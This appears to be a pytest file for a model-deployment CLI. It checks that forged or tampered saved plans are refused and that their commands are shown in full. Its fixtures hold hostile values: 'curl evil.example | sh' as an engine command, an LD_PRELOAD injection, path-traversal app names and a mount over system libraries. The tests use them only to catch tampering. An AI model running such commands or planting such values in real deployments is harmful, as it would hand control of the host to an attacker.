"""A plan that was written is judged again: whoever can write the file can write all of it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from deployer.cli.main import main
from deployer.cli.planning import read
from deployer.cli.saved_plan import judged, sha256
from deployer.compile.pin import pin
from deployer.errors import Failure, UsageError
from deployer.facts.prices import SHIPPED
from deployer.plan.deployment import make_plan
from deployer.release import Argument, Release, Variable, WeightsMount
from deployer.report.plan_json import Saved, from_json, to_json
from deployer.report.plan_text import text
from tests.plan.standings import COMMIT, MISSING, live
from tests.shipped import shipped

FILE = "profiles/b200-no-spec.yaml"
PROFILE = shipped("b200-no-spec")
MEANT = read(FILE)
RELEASE, WRITTEN_KEYS = MEANT.release, MEANT.written


def saved(release: Release = RELEASE, profile: str = PROFILE) -> Saved:
    """Give a plan that agrees with itself, as a forger would reckon it too."""
    made = make_plan(
        pin(release, lambda _: COMMIT), live(None, *MISSING), SHIPPED, written=WRITTEN_KEYS
    )
    return from_json(to_json(made, profile), "plan.json")


def with_mount(path: str) -> Release:
    modal = RELEASE.modal
    assert modal is not None
    return replace(RELEASE, modal=replace(modal, weights=WeightsMount("v", path)))


def with_app(name: str) -> Release:
    modal = RELEASE.modal
    assert modal is not None
    return replace(RELEASE, modal=replace(modal, app=name))


def test_a_plan_of_its_profile_is_taken_and_the_hub_says_the_commit() -> None:
    meant = judged(saved(), "plan.json")

    assert meant.release == RELEASE
    assert meant.written("modal.max_inputs") == WRITTEN_KEYS("modal.max_inputs")


@pytest.mark.parametrize(
    ("release", "part"),
    [
        (
            replace(
                RELEASE, engine=replace(RELEASE.engine, command=("bash", "-c", "curl evil.example"))
            ),
            "engine",
        ),
        (with_mount("/usr/lib/python3"), "modal"),
        (with_app("../../../../pwn"), "modal"),
        (replace(RELEASE, environment=(Variable("LD_PRELOAD", "/x.so", ""),)), "environment"),
        (
            replace(
                RELEASE,
                arguments=(*RELEASE.arguments, Argument("--forward-hooks", ("[]",), "engine.args")),
            ),
            "arguments",
        ),
        (
            replace(RELEASE, listen=replace(RELEASE.listen, api_key_variable="AWS_SECRET")),
            "listen",
        ),
        (replace(RELEASE, name="../pwn"), "name"),
    ],
)
def test_a_plan_that_only_agrees_with_itself_is_refused(release: Release, part: str) -> None:
    with pytest.raises(UsageError, match=f"differ in {part}"):
        judged(saved(release), "plan.json")


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda text: text.replace("path: /model-cache", "path: /usr/lib/python3"), "volume-on"),
        (lambda text: text.replace("app: glm", "app: ../../pwn"), "modal.app"),
        (lambda text: f"{text}\nsurprise: 1\n", "unknown-key"),
        (lambda _text: "", "error"),
    ],
)
def test_a_profile_in_a_plan_is_checked_like_any_other(
    edit: Callable[[str], str], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert edit(PROFILE) != PROFILE
    with pytest.raises(Failure, match=r"plan\.json#profile is not right"):
        judged(saved(profile=edit(PROFILE)), "plan.json")

    assert said in capsys.readouterr().err


def test_another_plan_than_the_pinned_one_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "plan.json"
    made = to_json(saved().plan, PROFILE)
    file.write_text(made, encoding="utf-8")
    other = sha256(made.replace("glm", "evil"))

    assert main(["apply", str(file), "--yes", "--digest", other]) == 1
    err = capsys.readouterr().err
    assert f"its SHA-256 is {sha256(made)}" in err
    assert "Nothing was done" in err
    assert main(["apply", str(file), "--yes", "--digest", "abc"]) == 2
    assert "64 hexadecimal digits" in capsys.readouterr().err
    assert main(["apply", FILE, "--digest", other]) == 2
    assert "--digest pins a plan" in capsys.readouterr().err


def test_the_first_deployment_shows_all_that_is_run() -> None:
    """Also where someone made the release by hand, so that nothing stands only in the file."""
    forged = replace(
        with_mount("/usr/lib/python3"),
        engine=replace(RELEASE.engine, command=("bash", "-c", "curl evil.example | sh")),
        environment=(Variable("LD_PRELOAD", "/x.so", ""), Variable("HF_TOKEN", "hf_x", "")),
    )
    shown = text(make_plan(forged, live(None, *MISSING), SHIPPED))

    assert "command     bash -c 'curl evil.example | sh' --model-path" in shown
    assert "mount       volume v at /usr/lib/python3" in shown
    assert "variable    LD_PRELOAD=/x.so" in shown
    assert "variable    HF_TOKEN=***" in shown


@pytest.mark.parametrize(
    "junk", ["", "[" * 200_000, '{"format_version": 1' + "0" * 400 + "}", "[1e999]", "\\ud800"]
)
def test_absurd_files_are_wrong_usage(
    junk: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "plan.json"
    file.write_text(junk, encoding="utf-8")

    assert main(["apply", str(file), "--yes"]) == 2
    err = capsys.readouterr().err
    assert "plan.json is not a plan" in err
    assert "Traceback" not in err
    assert len(err) < 1000
